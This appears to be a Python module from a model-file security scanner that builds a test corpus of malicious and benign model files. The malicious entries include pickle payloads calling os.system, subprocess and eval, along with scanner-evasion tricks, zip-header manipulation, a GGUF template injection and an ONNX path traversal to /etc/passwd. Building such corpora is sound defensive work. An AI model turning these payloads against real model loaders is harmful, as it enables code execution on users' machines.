# ruff: noqa: E501, S108, PLR0915 - a table of corpus entries reads best one entry per line
"""A corpus of malicious and benign model files for testing and benchmarking scanners, generated on demand.

    >>> from pathlib import Path
    >>> from modelshield.testing.scan_corpus import write_corpus
    >>> entries = write_corpus(Path("corpus"))  # doctest: +SKIP
    >>> sum(e.malicious for e in entries) >= 40  # doctest: +SKIP
    True

Malicious files are assembled from raw pickle opcodes (nothing is pickled by running a payload, and nothing here is
ever loaded); each names the family it belongs to, after the bypasses published against picklescan, modelscan and
fickling. Benign files are written by the real libraries (PyTorch, scikit-learn, joblib, NumPy, safetensors, ONNX,
skops), so "no false alarms" is measured on what people actually ship. Payloads only ever run ``id`` or ``true``.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from modelshield.supply_chain.formats import ModelFormat

__all__ = ["CorpusEntry", "call_v0", "call_v2", "call_v4", "format_samples", "write_corpus"]


@dataclass(frozen=True)
class CorpusEntry:
    """One generated file: its name, whether it is malicious, and the family of technique it shows."""

    name: str
    malicious: bool
    family: str


# -- raw pickle assembly -----------------------------------------------------------------------------------------
def _u(text: str) -> bytes:
    data = text.encode()
    return (b"\x8c" + bytes([len(data)]) if len(data) < 256 else b"X" + struct.pack("<I", len(data))) + data


def _arg(value: str) -> bytes:
    return _u(value) + b"\x85"  # a one-tuple of a string


def call_v2(module: str, name: str, arg: str = "id") -> bytes:
    """``module.name(arg)`` with GLOBAL + REDUCE (protocol 2)."""
    return b"\x80\x02c" + module.encode() + b"\n" + name.encode() + b"\n" + _arg(arg) + b"R."


def call_v4(module: str, name: str, arg: str = "id") -> bytes:
    """``module.name(arg)`` with STACK_GLOBAL + REDUCE (protocol 4)."""
    return b"\x80\x04" + _u(module) + _u(name) + b"\x93" + _arg(arg) + b"R."


def call_v0(module: str, name: str, arg: str = "id") -> bytes:
    """``module.name(arg)`` in text protocol 0."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(V" + arg.encode() + b"\ntR."


def _inst(module: str, name: str, arg: str = "id") -> bytes:
    return b"(V" + arg.encode() + b"\ni" + module.encode() + b"\n" + name.encode() + b"\n."


def _nested(outer: tuple[str, str], inner_arg: str, call_arg: str = "id") -> bytes:
    """``outer(inner_arg)(call_arg)``: a resolver returns a callable that is then called."""
    module, name = outer
    return b"\x80\x04" + _u(module) + _u(name) + b"\x93" + _arg(inner_arg) + b"R" + _arg(call_arg) + b"R."


def _partial() -> bytes:
    return (
        b"\x80\x04" + _u("functools") + _u("partial") + b"\x93"
        + _u("os") + _u("system") + b"\x93" + _u("id") + b"\x86R)R."
    )  # fmt: skip


def _getattr_chain() -> bytes:
    # getattr(__import__("os"), "system")("id")
    return (
        b"\x80\x04" + _u("builtins") + _u("getattr") + b"\x93"
        + _u("builtins") + _u("__import__") + b"\x93" + _arg("os") + b"R"
        + _u("system") + b"\x86R" + _arg("id") + b"R."
    )  # fmt: skip


def _memo_decoy() -> bytes:
    # "collections"/"OrderedDict" are memoised first as decoys; the real names come back from the memo.
    return (
        b"\x80\x04" + _u("collections") + b"\x94" + _u("os") + b"\x94" + _u("OrderedDict") + b"\x94"
        + _u("system") + b"\x94" + b"0000" + b"h\x01h\x03\x93" + _arg("id") + b"R."
    )  # fmt: skip


def _dynamic_name() -> bytes:
    # The module name is computed at load time: str.join over two fragments.
    return (
        b"\x80\x04" + _u("builtins") + _u("str") + b"\x93" + _u("") + b"\x93"
        + _u("builtins") + _u("str") + b"\x93" + _arg("os") + b"R" + _u("system") + b"\x93" + _arg("id") + b"R."
    )  # fmt: skip


def _build_setattr() -> bytes:
    # BUILD with slot state on a class itself: setattr(collections.OrderedDict, "__repr__", os.system).
    return (
        b"\x80\x04" + _u("collections") + _u("OrderedDict") + b"\x93"
        + b"N}" + _u("__repr__") + _u("os") + _u("system") + b"\x93s\x86b."
    )  # fmt: skip


def _code_object() -> bytes:
    return call_v4("marshal", "loads", "c\x00\x00\x00") + call_v4("types", "FunctionType", "x")[2:]


def _after_parse_error() -> bytes:
    return call_v2("posix", "system")[:-1] + b"\xff" + b"cposix\nsystem\n(Vid\ntR."


def _framed() -> bytes:
    body = _u("os") + _u("system") + b"\x93" + _arg("id") + b"R."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def _zip(members: dict[str, bytes], *, stored: bool = True) -> bytes:
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def _torch_like(pickle_bytes: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    return _zip({"archive/data.pkl": pickle_bytes, "archive/byteorder": b"little", "archive/version": b"3\n",
                 **(extra or {})})  # fmt: skip


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (118 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _name_mismatch() -> bytes:
    raw = bytearray(_zip({"archive/data.pkl": call_v2("posix", "system")}))
    local = raw.index(b"archive/data.pkl")
    raw[local : local + 16] = b"archive/safe.txt"
    return bytes(raw)


def _encrypted_flag() -> bytes:
    raw = bytearray(_zip({"archive/data.pkl": call_v2("posix", "system")}))
    raw[6] |= 0x01  # local header flag
    central = raw.index(b"PK\x01\x02")
    raw[central + 8] |= 0x01  # central directory flag
    return bytes(raw)


def _bad_crc() -> bytes:
    raw = bytearray(_zip({"archive/data.pkl": call_v2("posix", "system")}))
    raw[14] ^= 0xFF  # local CRC
    central = raw.index(b"PK\x01\x02")
    raw[central + 16] ^= 0xFF
    return bytes(raw)


def _keras_lambda() -> bytes:
    config = {
        "class_name": "Sequential",
        "config": {
            "layers": [
                {
                    "class_name": "Lambda",
                    "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}},
                }
            ]
        },
    }
    return _zip({"metadata.json": b"{}", "config.json": json.dumps(config).encode(),
                 "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(32)})  # fmt: skip


def _keras_module() -> bytes:
    config = {
        "class_name": "Functional",
        "config": {"layers": [{"module": "os", "class_name": "system", "config": {}, "registered_name": "system"}]},
    }
    return _zip({"metadata.json": b"{}", "config.json": json.dumps(config).encode(),
                 "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(32)})  # fmt: skip


def _h5_lambda() -> bytes:
    config = json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}})
    return b"\x89HDF\r\n\x1a\n" + bytes(512) + config.encode() + bytes(512)


def _saved_model(ops: list[str]) -> bytes:
    """A minimal SavedModel protobuf: schema version 1, one MetaGraphDef tagged "serve" with the given ops."""

    def field(tag: int, payload: bytes) -> bytes:
        return bytes([tag, len(payload)]) + payload

    nodes = b"".join(field(0x0A, field(0x0A, f"n{i}".encode()) + field(0x12, op.encode())) for i, op in enumerate(ops))
    return b"\x08\x01" + field(0x12, field(0x0A, field(0x22, b"serve")) + field(0x12, nodes))


def _gguf(template: str) -> bytes:
    def string(s: str) -> bytes:
        data = s.encode()
        return struct.pack("<Q", len(data)) + data

    kv = [string("general.architecture") + struct.pack("<I", 8) + string("llama"),
          string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)]  # fmt: skip
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + b"".join(kv)


_MALICIOUS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pickle.reduce-os-system.pkl": ("code execution", lambda: call_v2("os", "system")),
    "pickle.protocol0-posix-system.pkl": ("code execution", lambda: call_v0("posix", "system")),
    "pickle.stack-global-subprocess.pkl": ("process", lambda: call_v4("subprocess", "check_output")),
    "pickle.inst-subprocess-popen.pkl": ("process", lambda: _inst("subprocess", "Popen")),
    "pickle.builtins-eval.pkl": ("code execution", lambda: call_v4("builtins", "eval", "1+1")),
    "pickle.builtins-exec.pkl": ("code execution", lambda: call_v2("builtins", "exec", "pass")),
    "pickle.py2-builtin-eval.pkl": ("python 2 names", lambda: call_v0("__builtin__", "eval", "1")),
    "pickle.py2-commands.pkl": ("python 2 names", lambda: call_v0("commands", "getoutput")),
    "pickle.py2-urllib2.pkl": ("python 2 names", lambda: call_v0("urllib2", "urlopen", "http://127.0.0.1/")),
    "pickle.py2-cpickle-loads.pkl": ("python 2 names", lambda: call_v0("cPickle", "loads", "x")),
    "pickle.runpy-run-code.pkl": ("stdlib runner", lambda: call_v4("runpy", "_run_code", "pass")),
    "pickle.runpy-run-path.pkl": ("stdlib runner", lambda: call_v4("runpy", "run_path", "/dev/null")),
    "pickle.pty-spawn.pkl": ("stdlib runner", lambda: call_v4("pty", "spawn", "true")),
    "pickle.bdb-run.pkl": ("stdlib runner", lambda: call_v4("bdb", "Bdb.run", "pass")),
    "pickle.pdb-run.pkl": ("stdlib runner", lambda: call_v4("pdb", "run", "pass")),
    "pickle.trace-runctx.pkl": ("stdlib runner", lambda: call_v4("trace", "Trace.runctx", "pass")),
    "pickle.cprofile-run.pkl": ("stdlib runner", lambda: call_v4("cProfile", "run", "pass")),
    "pickle.timeit.pkl": ("stdlib runner", lambda: call_v4("timeit", "timeit", "pass")),
    "pickle.doctest-debug-script.pkl": ("stdlib runner", lambda: call_v4("doctest", "debug_script", "pass")),
    "pickle.idlelib-runcode.pkl": ("stdlib runner", lambda: call_v4("idlelib.pyshell", "ModifiedInterpreter.runcode")),
    "pickle.lib2to3-main.pkl": ("stdlib runner", lambda: call_v4("lib2to3.main", "main", "x")),
    "pickle.uuid-command.pkl": ("stdlib runner", lambda: call_v4("uuid", "_get_command_stdout", "id")),
    "pickle.osx-support-read-output.pkl": ("stdlib runner", lambda: call_v4("_osx_support", "_read_output", "id")),
    "pickle.aix-support-cmd.pkl": ("stdlib runner", lambda: call_v4("_aix_support", "_read_cmd_output", "id")),
    "pickle.imaplib-stream.pkl": ("stdlib runner", lambda: call_v4("imaplib", "IMAP4_stream", "id")),
    "pickle.venv-create.pkl": ("stdlib runner", lambda: call_v4("venv", "create", "/tmp/x")),
    "pickle.multiprocessing-spawn.pkl": ("stdlib runner", lambda: call_v4("multiprocessing.util", "spawnv_passfds", "id")),
    "pickle.asyncio-subprocess.pkl": ("stdlib runner", lambda: call_v4("asyncio.subprocess", "create_subprocess_shell")),
    "pickle.code-interpreter.pkl": ("stdlib runner", lambda: call_v4("code", "InteractiveInterpreter.runsource", "1")),
    "pickle.pip-main.pkl": ("third-party gadget", lambda: call_v4("pip", "main", "list")),
    "pickle.numpy-runstring.pkl": ("third-party gadget", lambda: call_v4("numpy.testing._private.utils", "runstring", "1")),
    "pickle.numpy-f2py.pkl": ("third-party gadget", lambda: call_v4("numpy.f2py.crackfortran", "crackfortran", "x")),
    "pickle.torch-load-inline.pkl": ("third-party gadget", lambda: call_v4("torch.utils.cpp_extension", "load_inline", "x")),
    "pickle.torch-jit-load.pkl": ("third-party gadget", lambda: call_v4("torch.jit", "load", "x")),
    "pickle.mlflow-load-model.pkl": ("third-party gadget", lambda: call_v4("mlflow.pyfunc", "load_model", "x")),
    "pickle.pandas-read-csv.pkl": ("third-party gadget", lambda: call_v4("pandas.io.parsers", "read_csv", "/etc/passwd")),
    "pickle.pkgutil-resolve-name.pkl": ("resolver", lambda: _nested(("pkgutil", "resolve_name"), "os:system")),
    "pickle.pydoc-locate.pkl": ("resolver", lambda: _nested(("pydoc", "locate"), "os.system")),
    "pickle.operator-methodcaller.pkl": ("resolver", lambda: _nested(("operator", "methodcaller"), "system")),
    "pickle.functools-partial.pkl": ("resolver", _partial),
    "pickle.getattr-chain.pkl": ("resolver", _getattr_chain),
    "pickle.dotted-path-os-system.pkl": ("dotted traversal", lambda: call_v4("os", "path.os.system")),
    "pickle.dotted-via-innocent-module.pkl": ("dotted traversal", lambda: call_v4("typing", "sys.modules.get", "os")),
    "pickle.dotted-dunder-globals.pkl": ("dotted traversal", lambda: call_v4("collections", "OrderedDict.__init__.__globals__.get", "x")),
    "pickle.marshal-code-object.pkl": ("code objects", _code_object),
    "pickle.memo-decoy.pkl": ("parser divergence", _memo_decoy),
    "pickle.dynamic-global-name.pkl": ("parser divergence", _dynamic_name),
    "pickle.build-setattr.pkl": ("parser divergence", _build_setattr),
    "pickle.payload-then-parse-error.pkl": ("parser divergence", _after_parse_error),
    "pickle.truncated-after-payload.pkl": ("parser divergence", lambda: call_v2("os", "system")[:-3]),
    "pickle.framed.pkl": ("parser divergence", _framed),
    "pickle.second-pickle-payload.pkl": ("parser divergence", lambda: pickle.dumps({"ok": 1}, protocol=2) + call_v2("os", "system")),
    "model.safetensors": ("misleading extension", lambda: call_v2("os", "system")),
    "torch.data-pkl-payload.pt": ("pytorch", lambda: _torch_like(call_v2("posix", "system"))),
    "torch.second-member-payload.pt": ("pytorch", lambda: _torch_like(pickle.dumps({}, 2), {"archive/extra.pkl": call_v4("os", "system")})),
    "torch.legacy-tar-payload.tar": ("pytorch", lambda: _tar({"pickle": call_v2("os", "system"), "storages": pickle.dumps([], 2), "tensors": pickle.dumps([], 2)})),
    "torch.legacy-stacked-payload.pt": ("pytorch", lambda: pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + call_v2("os", "system")),
    "zip.member-without-extension.zip": ("zip tricks", lambda: _zip({"weights": call_v2("os", "system")})),
    "zip.nested-zip.zip": ("zip tricks", lambda: _zip({"inner.zip": _zip({"archive/data.pkl": call_v2("os", "system")})})),
    "zip.name-mismatch.pt": ("zip tricks", _name_mismatch),
    "zip.encrypted-flag.pt": ("zip tricks", _encrypted_flag),
    "zip.bad-crc.pt": ("zip tricks", _bad_crc),
    "compressed.gzip-pickle.joblib": ("compression", lambda: gzip.compress(call_v2("os", "system"))),
    "compressed.zlib-pickle.joblib": ("compression", lambda: zlib.compress(call_v2("os", "system"))),
    "compressed.xz-pickle.joblib": ("compression", lambda: lzma.compress(call_v2("os", "system"))),
    "compressed.lzma-alone-pickle.joblib": ("compression", lambda: lzma.compress(call_v2("os", "system"), format=lzma.FORMAT_ALONE)),
    "compressed.bz2-pickle.pkl": ("compression", lambda: bz2.compress(call_v2("os", "system"))),
    "compressed.7z.7z": ("compression", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)),
    "numpy.object-array.npy": ("numpy", lambda: _npy_object(call_v2("os", "system"))),
    "numpy.object-array-in-npz.npz": ("numpy", lambda: _zip({"ok.npy": b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '<f8', 'fortran_order': False, 'shape': (0,), }".ljust(117) + b"\n", "evil.npy": _npy_object(call_v4("os", "system"))})),
    "keras.lambda-layer.keras": ("keras", _keras_lambda),
    "keras.module-reference.keras": ("keras", _keras_module),
    "keras.lambda-layer.h5": ("keras", _h5_lambda),
    "gguf.template-injection.gguf": ("gguf", lambda: _gguf("{{ cycler.__init__.__globals__.os.popen('id').read() }}")),
    "tensorflow.pyfunc-op.pb": ("tensorflow", lambda: _saved_model(["Placeholder", "EagerPyFunc", "Identity"])),
    "tensorflow.readfile-op.pb": ("tensorflow", lambda: _saved_model(["Const", "ReadFile", "Identity"])),
}  # fmt: skip


def _write_pickle(obj: object, path: Path) -> None:
    path.write_bytes(pickle.dumps(obj, protocol=5))


def _write_joblib(obj: object, path: Path) -> None:
    import joblib

    joblib.dump(obj, path)


def _benign_writers() -> dict[str, Callable[[Path], object]]:
    """Benign files written by the libraries people use; entries whose library is missing are left out."""
    writers: dict[str, Callable[[Path], object]] = {}

    def sklearn_models() -> dict[str, object]:
        from sklearn.datasets import load_digits
        from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler

        x, y = load_digits(return_X_y=True)
        x, y = x[:400], y[:400]
        return {
            "forest": RandomForestClassifier(n_estimators=4, random_state=0).fit(x, y),
            "boosting": GradientBoostingClassifier(n_estimators=3, random_state=0).fit(x, y),
            "pipeline": make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(x, y),
        }

    try:
        import torch

        def net() -> torch.nn.Module:
            # Layers made on the meta device skip their default initialisation (which draws from torch's global
            # generator); they are filled from a generator of their own: the same weights every time, and no
            # global state touched.
            model = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3, device="meta"), torch.nn.ReLU(), torch.nn.Flatten(),
                                        torch.nn.Linear(4 * 6 * 6, 10, device="meta")).to_empty(device="cpu")  # fmt: skip
            generator = torch.Generator().manual_seed(0)
            with torch.no_grad():
                for parameter in model.parameters():
                    parameter.copy_(0.1 * torch.randn(parameter.shape, generator=generator))
            return model

        writers["benign.torch-state-dict.pt"] = lambda p: torch.save(net().state_dict(), p)
        writers["benign.torch-full-module.pt"] = lambda p: torch.save(net(), p)
        writers["benign.torch-legacy-format.pt"] = lambda p: torch.save(
            net().state_dict(), p, _use_new_zipfile_serialization=False
        )
        writers["benign.torch-optimizer-checkpoint.pt"] = lambda p: torch.save(
            {"model": net().state_dict(), "optim": torch.optim.Adam(net().parameters()).state_dict(), "epoch": 3}, p
        )
    except ImportError:
        pass
    try:
        import joblib

        models = sklearn_models()
        for name, model in models.items():
            writers[f"benign.sklearn-{name}.pkl"] = functools.partial(_write_pickle, model)
            writers[f"benign.sklearn-{name}.joblib"] = functools.partial(_write_joblib, model)
        writers["benign.sklearn-forest-zlib.joblib"] = lambda p: joblib.dump(models["forest"], p, compress=3)
        writers["benign.sklearn-forest-lzma.joblib"] = lambda p: joblib.dump(models["forest"], p, compress=("lzma", 3))
        writers["benign.sklearn-forest-protocol0.pkl"] = lambda p: p.write_bytes(pickle.dumps(models["forest"], 0))
    except ImportError:
        pass
    import numpy as np

    writers["benign.numpy-array.npy"] = lambda p: np.save(p, np.arange(100.0).reshape(10, 10))
    writers["benign.numpy-arrays.npz"] = lambda p: np.savez_compressed(p, w=np.ones((4, 4)), b=np.zeros(4))
    writers["benign.numpy-structured.npy"] = lambda p: np.save(p, np.zeros(3, dtype=[("x", "f4"), ("y", "i8")]))
    try:
        from safetensors.numpy import save_file

        writers["benign.weights.safetensors"] = lambda p: save_file(
            {"w": np.ones((8, 8), np.float32), "b": np.zeros(8, np.float32)}, str(p), metadata={"format": "np"}
        )
    except ImportError:
        pass
    try:
        import onnx
        from onnx import TensorProto, helper

        def write_onnx(path: Path) -> None:
            w = helper.make_tensor("w", TensorProto.FLOAT, [4, 3], [0.1] * 12)
            graph = helper.make_graph(
                [helper.make_node("MatMul", ["x", "w"], ["z"]), helper.make_node("Softmax", ["z"], ["y"], axis=1)],
                "g",
                [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 4])],
                [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 3])],
                [w],
            )
            onnx.save(helper.make_model(graph), str(path))

        writers["benign.model.onnx"] = write_onnx
    except ImportError:
        pass
    try:
        from skops.io import dump

        writers["benign.sklearn-pipeline.skops"] = lambda p: dump(sklearn_models()["pipeline"], p)
    except ImportError:
        pass
    writers["benign.gguf-chat-template.gguf"] = lambda p: p.write_bytes(
        _gguf("{% for m in messages %}<|{{ m['role'] }}|>\n{{ m['content'] }}{% endfor %}")
    )
    writers["benign.plain-pickle.pkl"] = lambda p: p.write_bytes(
        pickle.dumps({"vocab": ["a", "b"], "weights": [0.1, 0.2], "config": {"layers": 3}}, protocol=4)
    )
    return writers


def _onnx_external_escape() -> bytes:
    from onnx import TensorProto, helper

    weight = helper.make_tensor("w", TensorProto.FLOAT, [2, 2], [0.0] * 4)
    weight.ClearField("float_data")
    weight.data_location = TensorProto.EXTERNAL
    entry = weight.external_data.add()
    entry.key, entry.value = "location", "../../../../etc/passwd"
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "w"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])],
        [weight],
    )
    return bytes(helper.make_model(graph).SerializeToString())


def write_corpus(directory: Path, *, benign: bool = True) -> list[CorpusEntry]:
    """Write the corpus into ``directory`` (created if needed) and return what was written."""
    directory.mkdir(parents=True, exist_ok=True)
    entries = []
    malicious = dict(_MALICIOUS)
    try:
        import onnx  # noqa: F401 - only to know whether the ONNX entry can be built

        malicious["onnx.external-data-escape.onnx"] = ("onnx", _onnx_external_escape)
    except ImportError:
        pass
    for name, (family, build) in malicious.items():
        (directory / name).write_bytes(build())
        entries.append(CorpusEntry(name, True, family))
    if benign:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # library deprecation notices while writing fixtures
            for name, write in _benign_writers().items():
                write(directory / name)
                entries.append(CorpusEntry(name, False, "benign"))
    return entries


def _npy(data: bytes = bytes(8 * 4)) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({len(data) // 8},), }}"
    header += " " * (118 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


def _safetensors(header: dict[str, object], data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def format_samples() -> dict[ModelFormat, tuple[bytes, ...]]:
    """Small files of every format (benign and malicious, a few hundred bytes each), for scanner conformance tests.

    Built from bytes alone, in milliseconds, without PyTorch; ONNX is included when the ``onnx`` package is.
    """
    from modelshield.supply_chain.formats import ModelFormat

    clean = pickle.dumps({"w": [1.0, 2.0], "name": "layer"}, protocol=2)
    evil = call_v2("os", "system")
    samples: dict[ModelFormat, tuple[bytes, ...]] = {
        ModelFormat.PICKLE: (clean, evil, call_v4("builtins", "eval", "1"), _memo_decoy(), _framed()),
        ModelFormat.NUMPY: (_npy(), _npy_object(evil)),
        ModelFormat.PYTORCH_ZIP: (_torch_like(clean), _torch_like(evil), _name_mismatch(), _bad_crc()),
        ModelFormat.TORCHSCRIPT: (_zip({"m/constants.pkl": evil, "m/code/__torch__/m.py": b"def f(): pass\n"}),),
        ModelFormat.PYTORCH_EXPORT: (_zip({"m/archive_format": b"pt2", "m/models/model.json": b"{}"}),),
        ModelFormat.SKOPS: (_zip({"schema.json": b"{}", "k.npy": _npy()}),),
        ModelFormat.NUMPY_NPZ: (_zip({"a.npy": _npy(), "b.npy": _npy_object(evil)}, stored=False),),
        ModelFormat.ZIP: (_zip({"weights": evil, "inner.zip": _zip({"x.pkl": clean})}),),
        ModelFormat.TAR: (_tar({"weights": evil, "notes.txt": b"hello"}),),
        ModelFormat.PYTORCH_LEGACY_TAR: (_tar({"pickle": evil, "storages": clean, "tensors": clean}),),
        ModelFormat.COMPRESSED: (
            gzip.compress(clean),
            zlib.compress(evil),
            lzma.compress(evil),
            lzma.compress(clean, format=lzma.FORMAT_ALONE),
            bz2.compress(evil),
        ),
        ModelFormat.SAFETENSORS: (
            _safetensors({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8)),
            _safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 64]}, "__metadata__": {}}, bytes(16)),
        ),
        ModelFormat.KERAS: (_keras_lambda(), _keras_module()),
        ModelFormat.HDF5: (_h5_lambda(),),
        ModelFormat.GGUF: (
            _gguf("{% for m in messages %}{{ m['content'] }}{% endfor %}"),
            _gguf("{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ),
        ModelFormat.TF_SAVEDMODEL: (_saved_model(["Placeholder", "MatMul"]), _saved_model(["Const", "ReadFile"])),
    }
    try:
        import onnx  # noqa: F401 - only to know whether the ONNX sample can be built

        samples[ModelFormat.ONNX] = (_onnx_external_escape(),)
    except ImportError:
        pass
    return samples
